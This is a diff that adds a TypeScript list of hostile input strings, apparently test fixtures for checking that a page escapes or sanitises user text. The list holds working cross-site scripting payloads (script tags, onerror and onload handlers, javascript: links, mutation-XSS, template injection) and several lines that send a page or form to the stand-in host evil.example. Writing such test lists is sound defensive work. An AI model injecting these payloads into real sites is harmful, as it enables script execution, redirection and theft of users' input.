@@ -1,0 +1,21 @@
+/** What somebody would write to have a page run, load, send or hide something (fault 98). */
+export const hostileTexts = [
+  "<script>alert(1)</script>",
+  "</title><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  '"><svg onload=alert(1)>',
+  "' autofocus onfocus=alert(1) x='",
+  "<img src=x onerror=alert(1)>",
+  "<iframe srcdoc='<script>alert(1)</script>'>",
+  "[click](javascript:alert(1)) ![x](javascript:alert(1))",
+  "javascript:alert(1)",
+  "<a href=javascript:alert(1)>x</a>",
+  "<style>body{display:none}</style>",
+  "<base href=//evil.example>",
+  "<meta http-equiv=refresh content='0;url=//evil.example'>",
+  "<form action=//evil.example><button>Approve",
+  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
+  '<!--<img src="--><img src=x onerror=alert(1)>">',
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "{{constructor.constructor('alert(1)')()}} ${alert(1)} `alert(1)`",
+];
